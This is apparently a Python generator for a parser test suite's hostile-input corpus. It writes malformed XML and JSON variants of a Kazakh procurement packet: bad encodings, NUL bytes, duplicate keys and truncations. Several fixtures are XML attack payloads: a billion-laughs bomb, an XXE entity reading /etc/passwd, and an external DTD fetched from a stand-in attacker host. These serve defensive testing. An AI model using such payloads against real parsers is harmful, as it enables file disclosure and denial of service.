#!/usr/bin/env python3
"""Writes the small input files of the hostile corpus (tests/hostile/manifest.json names
them; the large inputs are generated from the manifest's `parts` by every host). Run it
again after changing a case: the files it writes are committed, byte for byte."""
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

HEADER_XML = (
    "<header><packet_id>0f8fad5b-d9cb-469f-a165-70867728950e</packet_id>"
    "<sender_bin>081140000436</sender_bin><entity>legal_act</entity>"
    "<rule_set>eoz-2019</rule_set><created_at>01.02.2024 10:00</created_at></header>"
)
NAME = "Закон Республики Казахстан «О государственных закупках»"
# One defect on purpose (31 February), so that every readable variant is rejected with the
# same report: the variants differ in form only, never in meaning.
RECORD_XML = (
    "<record><name_ru>{name}</name_ru><accept_date>31.02.2024</accept_date>"
    "<download_url>https://adilet.example/download/Z2400000106.pdf</download_url></record>"
)
HEADER_JSON = (
    '{"packet_id": "0f8fad5b-d9cb-469f-a165-70867728950e", "sender_bin": "081140000436", '
    '"entity": "legal_act", "rule_set": "eoz-2019", "created_at": "01.02.2024 10:00"}'
)
RECORD_JSON = (
    '{{"name_ru": "{name}", "accept_date": "31.02.2024", '
    '"download_url": "https://adilet.example/download/Z2400000106.pdf"}}'
)
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"


def xml_packet(record: str = RECORD_XML.format(name=NAME), prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> str:
    return f"{prolog}<packet>{HEADER_XML}<records>{record}</records></packet>\n"


def json_packet(record: str = RECORD_JSON.format(name=NAME)) -> str:
    return f'{{"header": {HEADER_JSON}, "records": [{record}]}}\n'


def soap(body: str, ns: str = SOAP) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="{ns}"><soap:Body>{body}</soap:Body></soap:Envelope>\n'


def write(name: str, data: str | bytes) -> None:
    (FILES / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def main() -> None:
    FILES.mkdir(exist_ok=True)
    plain_xml = xml_packet()
    plain_json = json_packet()
    bare_packet = plain_xml.split("\n", 1)[1]
    # The reference forms: one defect, nothing unusual.
    write("defect.xml", plain_xml)
    write("defect.json", plain_json)
    # Entities and DOCTYPE: refused before any entity could be expanded or fetched.
    laughs = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
    write("billion-laughs.xml", f'<?xml version="1.0"?>\n<!DOCTYPE packet [<!ENTITY lol0 "lol">{laughs}]>\n' + bare_packet.replace(NAME, "&lol9;"))
    write("xxe-external-entity.xml", '<?xml version="1.0"?>\n<!DOCTYPE packet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + bare_packet.replace(NAME, "&xxe;"))
    write("parameter-entities.xml", '<?xml version="1.0"?>\n<!DOCTYPE packet [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n' + bare_packet)
    write("doctype-in-soap-body.xml", soap('<!DOCTYPE packet [<!ENTITY a "b">]>' + bare_packet))
    # Processing instructions, CDATA split anywhere, character references: the same meaning.
    write("processing-instructions.xml", xml_packet(
        RECORD_XML.format(name=NAME).replace("<accept_date>", '<?audit by="x"?><accept_date>'),
        prolog='<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="show.xsl"?>\n'))
    split = "".join(f"<![CDATA[{NAME[i:i + 3]}]]>" for i in range(0, len(NAME), 3))
    write("cdata-split.xml", xml_packet(RECORD_XML.format(name=split)))
    write("character-references.xml", xml_packet(RECORD_XML.format(name="".join(f"&#{ord(c)};" if i % 2 else c for i, c in enumerate(NAME)))))
    # SOAP namespace tricks.
    write("soap-wrong-namespace.xml", soap(bare_packet, ns="http://schemas.xmlsoap.org/soap/envelope/x"))
    write("soap-two-bodies.xml", soap(bare_packet).replace("</soap:Body>", f"</soap:Body><soap:Body>{bare_packet}</soap:Body>"))
    write("soap-envelope-ok.xml", soap(bare_packet))
    # Encodings.
    bad = plain_json.encode("utf-8")
    at = bad.index("«".encode("utf-8"))
    write("invalid-utf8.json", bad[:at] + b"\xc0\xaf" + bad[at:])
    write("overlong-utf8.xml", plain_xml.encode("utf-8").replace("«".encode("utf-8"), b"\xe0\x80\xab", 1))
    write("utf16le-bom.json", b"\xff\xfe" + plain_json.encode("utf-16-le"))
    write("utf16be-bom.xml", b"\xfe\xff" + plain_xml.encode("utf-16-be"))
    write("utf16le-no-bom.xml", plain_xml.encode("utf-16-le"))
    write("utf8-bom.json", b"\xef\xbb\xbf" + plain_json.encode("utf-8"))
    write("utf8-bom.xml", b"\xef\xbb\xbf" + plain_xml.encode("utf-8"))
    # NUL bytes and escapes.
    write("nul-byte-in-json-string.json", plain_json.replace("Закон", "За\0кон"))
    write("nul-byte-in-xml-text.xml", plain_xml.replace("Закон", "За\0кон"))
    write("nul-escape-in-json-string.json", plain_json.replace("Закон", "За\\u0000кон"))
    write("nul-character-reference.xml", plain_xml.replace("Закон", "За&#0;кон"))
    write("nul-in-comment.xml", plain_xml.replace("<records>", "<!-- a\0b --><records>", 1))
    write("control-in-processing-instruction.xml", plain_xml.replace("<records>", "<?pi a\x01b?><records>", 1))
    write("lone-high-surrogate.json", plain_json.replace("Закон", "За\\ud800кон"))
    write("lone-low-surrogate.json", plain_json.replace("Закон", "За\\udc00кон"))
    write("surrogate-pair-escape.json", plain_json.replace("Закон", "За\\ud83d\\ude00кон"))
    # Duplicate keys.
    write("duplicate-member-in-record.json", plain_json.replace('"accept_date": "31.02.2024"', '"accept_date": "01.07.2024", "accept_date": "31.02.2024"'))
    write("duplicate-header.json", plain_json.replace('"records":', f'"header": {HEADER_JSON.replace("081140000436", "990740000683")}, "records":'))
    write("duplicate-element-in-record.xml", plain_xml.replace("<accept_date>", "<accept_date>01.07.2024</accept_date><accept_date>"))
    # Numbers: huge exponents, negative zero, 400 digits, where a number is a field's value.
    write("numbers-extreme.json", plain_json.replace('"accept_date": "31.02.2024"', '"accept_date": 1e400').replace(
        '"download_url"', '"name_kz": -0, "adilet_url": ' + "9" * 400 + ', "download_url"'))
    write("numbers-as-header-fields.json", plain_json.replace('"0f8fad5b-d9cb-469f-a165-70867728950e"', "-0.0e-400").replace('"081140000436"', "1" * 400))
    plan = (HERE.parent.parent / "examples" / "plan_item.json").read_text("utf-8")
    write("numbers-extreme-plan-item.json", plan.replace('"advance": 30', '"advance": 1e400').replace(
        '"last_pay": 70', '"last_pay": -0').replace('"fin_year": 2024', '"fin_year": ' + "2" * 400).replace(
        '"price": "24.15"', '"price": 24.15e-400').replace('"volume": "1200"', '"volume": "' + "1" * 400 + '"'))
    # Truncated and broken streams.
    write("truncated.json", plain_json[: len(plain_json) // 2])
    write("truncated.xml", plain_xml[: len(plain_xml) // 2])
    write("truncated-in-utf8-sequence.json", plain_json.encode("utf-8")[: plain_json.encode("utf-8").index("«".encode("utf-8")) + 1])
    write("trailing-garbage.json", plain_json + "{}")
    write("two-roots.xml", plain_xml + "<packet/>")
    write("unclosed-cdata.xml", plain_xml.replace("</name_ru>", "<![CDATA[ never closed"))
    # Random bytes, the same every time.
    rng = random.Random(11)
    write("random-bytes.bin", bytes(rng.randrange(256) for _ in range(65536)))
    write("random-ascii.txt", "".join(chr(rng.randrange(32, 127)) for _ in range(65536)))


if __name__ == "__main__":
    main()
